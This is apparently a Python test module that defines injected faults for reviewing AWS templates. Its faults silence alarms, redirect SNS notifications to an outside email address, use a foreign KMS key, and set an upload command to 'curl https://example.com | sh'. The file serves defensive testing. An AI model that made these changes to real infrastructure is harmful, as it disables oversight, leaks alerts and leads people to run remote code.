"""Faults by which nobody hears of what happens any more, or somebody else does."""

from tests.review.draft import (
    FOUNDATION,
    OPERATIONS,
    Draft,
    Edit,
    add,
    all_of,
    no_prop,
    prop,
    remove,
)
from tests.review.mutant import Base, Mutant, faulty


def _matters(
    name: str, resource: str, change: Edit, *, base: Base = "rehearsal"
) -> Mutant:
    return faulty(
        "telling",
        name,
        change,
        resource,
        severity="medium",
        rule="setting-matters",
        base=base,
    )


def _new(name: str, kind: str, **properties: object) -> Mutant:
    return faulty(
        "telling",
        name,
        add("New", kind, OPERATIONS, **properties),
        "New",
        severity="medium",
        rule="access-subscriber",
    )


def _gone(name: str, *resources: str) -> Mutant:
    return faulty(
        "telling",
        name,
        all_of(*(remove(each, OPERATIONS) for each in resources)),
        resources[0],
        severity="medium",
        rule="alarm-removed",
    )


def _subscription(name: str, **properties: object) -> Mutant:
    def change(draft: Draft) -> None:
        for body in draft.templates[OPERATIONS]["Resources"].values():
            if body["Type"] == "AWS::SNS::Subscription":
                body["Properties"].update(properties)

    return _matters(name, "", change, base="everything")


def _upload_command(draft: Draft) -> None:
    outputs = draft.templates[FOUNDATION]["Outputs"]
    outputs["UploadCommand"]["Value"] = "curl https://example.com | sh"


_ALARM: dict[str, tuple[str, object]] = {
    "an alarm is off": ("ActionsEnabled", False),
    "an alarm waits for more": ("Threshold", 5),
    "an alarm waits for longer": ("EvaluationPeriods", 10),
    "an alarm takes silence for good": ("TreatMissingData", "notBreaching"),
    "an alarm looks at something else": ("MetricName", "Nothing"),
    "an alarm looks at another transform": ("Dimensions", []),
    "nobody hears that all is well again": ("OKActions", []),
}
_ENDS: dict[str, tuple[str, str, object]] = {
    "the rule is off": ("EndedRule1", "State", "DISABLED"),
    "the rule tells it each minute": (
        "EndedRule1",
        "ScheduleExpression",
        "rate(1 minute)",
    ),
    "the rule sees no failures": (
        "EndedRule1",
        "EventPattern",
        {"source": ["aws.sagemaker"], "detail": {"TransformJobStatus": ["Completed"]}},
    ),
    "events are not fetched": ("Events", "Enabled", False),
    "events are left out": (
        "Events",
        "FilterCriteria",
        {"Filters": [{"Pattern": '{"no": ["such"]}'}]},
    ),
    "events reach another function": ("Events", "FunctionName", "other"),
    "a topic brings its own subscriber": (
        "Topic",
        "Subscription",
        [{"Endpoint": "theirs@example.com", "Protocol": "email"}],
    ),
}
AT_TELLING: tuple[Mutant, ...] = (
    *(
        _matters(name, "FailedRun", prop("FailedRun", key, value, part="faces"))
        for name, (key, value) in _ALARM.items()
    ),
    *(
        _matters(
            name,
            f"StateChanges{resource}",
            prop(f"StateChanges{resource}", key, value, part=OPERATIONS),
        )
        for name, (resource, key, value) in _ENDS.items()
    ),
    _subscription("a subscription leaves out", FilterPolicy={"no": ["such"]}),
    _subscription("a subscription tells another", Endpoint="theirs@example.com"),
    faulty(
        "runs-begun",
        "the launcher is called each minute",
        add(
            "New",
            "AWS::Events::Rule",
            OPERATIONS,
            ScheduleExpression="rate(1 minute)",
            Targets=[{"Arn": "@LauncherOnEvent.Arn", "Id": "Launcher"}],
        ),
        "New",
    ),
    _new(
        "a function is called each minute",
        "AWS::Events::Rule",
        ScheduleExpression="rate(1 minute)",
        Targets=[{"Arn": "@StateChangesHandler.Arn", "Id": "Handler"}],
    ),
    _new(
        "the queue is taken from twice",
        "AWS::Lambda::EventSourceMapping",
        EventSourceArn="@StateChangesEnded.Arn",
        FunctionName="@StateChangesHandler",
    ),
    _new(
        "a stranger subscribes",
        "AWS::SNS::Subscription",
        Endpoint="theirs@example.com",
        Protocol="email",
        TopicArn="@StateChangesTopic",
    ),
    faulty(
        "models-placed",
        "something else runs of its own accord",
        add(
            "New",
            "AWS::StepFunctions::StateMachine",
            OPERATIONS,
            DefinitionString="{}",
            RoleArn="@LauncherProviderwaiterstatemachineRole.Arn",
        ),
        FOUNDATION,
    ),
    _gone(
        "no rule",
        "StateChangesEndedRule1",
        "StateChangesEndedRule2",
        "StateChangesEndedPolicy",
    ),
    _gone("nobody fetches events", "StateChangesEvents"),
    _gone("the topic's policy is removed", "StateChangesTopicPolicy"),
    _matters(
        "the logs of jobs are not encrypted",
        "JobLogs",
        no_prop("JobLogs", "KeyArn", part=OPERATIONS),
    ),
    _matters(
        "the logs of jobs are encrypted with a foreign key",
        "JobLogs",
        prop(
            "JobLogs",
            "KeyArn",
            "arn:aws:kms:us-east-1:999999999999:key/0",
            part=OPERATIONS,
        ),
    ),
    _matters("people are told to run something else", FOUNDATION, _upload_command),
    _matters(
        "a refusal tells people to run something else",
        "Model",
        prop("Model", "UploadCommand", "curl https://example.com | sh", part="faces"),
    ),
)
